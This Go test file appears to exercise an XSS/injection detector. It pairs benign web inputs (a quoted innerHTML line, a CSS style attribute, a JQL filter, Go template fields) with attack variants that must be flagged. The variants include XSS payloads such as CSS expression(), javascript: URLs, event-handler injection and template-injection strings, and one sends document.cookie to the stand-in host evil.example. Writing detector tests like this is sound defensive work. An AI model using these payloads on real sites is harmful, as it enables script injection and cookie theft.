package injection

import (
	"net/url"
	"strings"
	"testing"
)

// TestXSSShapes: a DOM write quoted in prose, a style attribute and a JQL filter with passive
// CSS, and a Go template's fields pass; the attacks in the same places do not.
func TestXSSShapes(t *testing.T) {
	form := func(s string) string { return url.QueryEscape(s) }
	jql := func(s string) string { return strings.ReplaceAll(url.QueryEscape(s), "+", "%20") }
	runWebShapes(t, []webShape{
		{name: "DOM write in prose", method: "POST", path: "/posts/61637922/answer/submit", ct: "application/x-www-form-urlencoded",
			body: "post-text=Why+does+my+JavaScript+%60document.getElementById%28%27total%27%29.innerHTML+%3D+price+%2A+qty%60+show+NaN%3F+price+comes+from+an+%3Cinput+type%3D%22number%22%3E.&fkey=028942426c739a335efb6a7ec0e6c02c",
			at:   "%60document.getElementById%28%27total%27%29.innerHTML+%3D+price+%2A+qty%60",
			twins: []string{"`x';document.body.innerHTML=location.hash;//`", "`x\";document.body.innerHTML=name;//`",
				"`;document.body.innerHTML=name;//`", "${document.body.innerHTML=name}",
				"`x\" onbeforetoggle=\"document.body.innerHTML=name`", "`javascript:document.body.innerHTML=name`",
				"\ndocument.body.innerHTML=location.hash//", "`x' in window.location='//evil.example/'//`",
				"`x'-(window.location='//evil.example/'+document.cookie)-'`"}, enc: form},
		{name: "DOM write as the value", method: "GET", path: "/hc/en-us/search?query=price",
			at: "price", twins: []string{"document.getElementById('total').innerHTML = location.hash",
				"window.location='//evil.example/'", "x.outerHTML=name"}, enc: form},
		{name: "style attribute in prose", method: "POST", path: "/rest/webhooks/jira", ct: "application/json",
			body: `{"issue": {"fields": {"description": "Outlook 2016 ignores ` + "`" + `style=\"width:100%\"` + "`" + ` on the nested table; use the width attribute."}}}`,
			at:   `style=\"width:100%\"`,
			twins: []string{`style=\"width:expression(alert(1))\"`, `style=\"background:url(javascript:alert(1))\"`,
				`style=\"width:100%\" onmouseover=\"alert(1)\"`, `style=\"xss:expr/**/ession(alert(1))\"`,
				`style=\"-moz-binding:url(http://x.example/xss.xml#xss)\"`, `style=\"behavior:url(x.htc)\"`,
				`style=\"width:100%\"><img src=x onerror=alert(1)>`, `style=\"x:\\65xpression(alert(1))\"`,
				`style=\"x:expr&#x65;ssion(alert(1))\"`, `style=\"width:100%\" src=\"javascript:alert(1)\"`}},
		{name: "JQL filter", method: "GET",
			path: "/rest/api/3/search?jql=filter%20%3D%2010423%20AND%20duedate%20%3C%3D%20endOfMonth%28%29%20ORDER%20BY%20duedate%20ASC%2C%20key%20ASC&maxResults=50",
			at:   "filter%20%3D%2010423%20AND",
			twins: []string{"filter = x:expression(alert(1)) AND", "filter = 10423 <svg onload=alert(1)> AND",
				"filter = 10423 onmouseover=alert(1) AND", "filter = x:expr/**/ession(alert(1)) AND",
				"filter = 10423 href=javascript:alert(1) AND"}, enc: jql},
		{name: "Go template fields", method: "POST", path: "/api/templates", ct: "application/json",
			body: `{"name": "notify", "source": "{{ range .Alerts }}[{{ .Status | toUpper }}] {{ .Labels.alertname }}{{ end }}"}`,
			at:   "{{ range .Alerts }}",
			twins: []string{"{{constructor.constructor('alert(1)')()}}", "{{ range .Alerts }}{{alert(1)}}",
				"{{$on.constructor('alert(1)')()}}", "{{ .Alerts }}{{prompt`1`}}"}},
	})
}

func TestJSReachable(t *testing.T) {
	for _, c := range []detectCase{
		{"Why does my JavaScript `document.getElementById('total')", false}, {"", true}, {"document.getElementById('total')", true},
		{"x';document", true}, {"x'+document", true}, {"a b' c", false}, {"a b\" c", false}, {"a b` c", false}, {"a b ${x} `y", true}, {"a b ${x", true}, {"a b` ${x", false},
		{"a b' in x", true}, {"a b'\nc", true}, {"a b onclick=x", true}, {"a b javascript:x", true}, {"Label: x", true},
		{"a b '", true}, {"typeof x", true}, {"using x = 1; x", true}, {"a\\' b", true}, {"a &#39; b", true}, {"a <b>", true},
	} {
		if got := jsReachable(c.in); got != c.want {
			t.Errorf("jsReachable(%q) = %v, want %v", c.in, got, c.want)
		}
	}
}

func TestLibStyleOnly(t *testing.T) {
	for _, c := range []detectCase{
		{"Outlook 2016 ignores `style=\"width:100%\"` on the nested table", true},
		{"filter = 10423 AND duedate <= endOfMonth()", true}, {"style=color:red", true},
		{"style=x:expression(alert(1))", false}, {"style=x:expr/**/ession(1)", false}, {"style=a onclick=b", false},
		{"style=a href=javascript:x", false}, {"style=a <img>", false}, {"style=a&#58;b", false}, {"x=1", false},
		{"style=width:１００%", false}, {"style=a\x00b", false}, {"style=a <!-- b", false},
	} {
		if got := libStyleOnly(c.in); got != c.want {
			t.Errorf("libStyleOnly(%q) = %v, want %v", c.in, got, c.want)
		}
	}
}
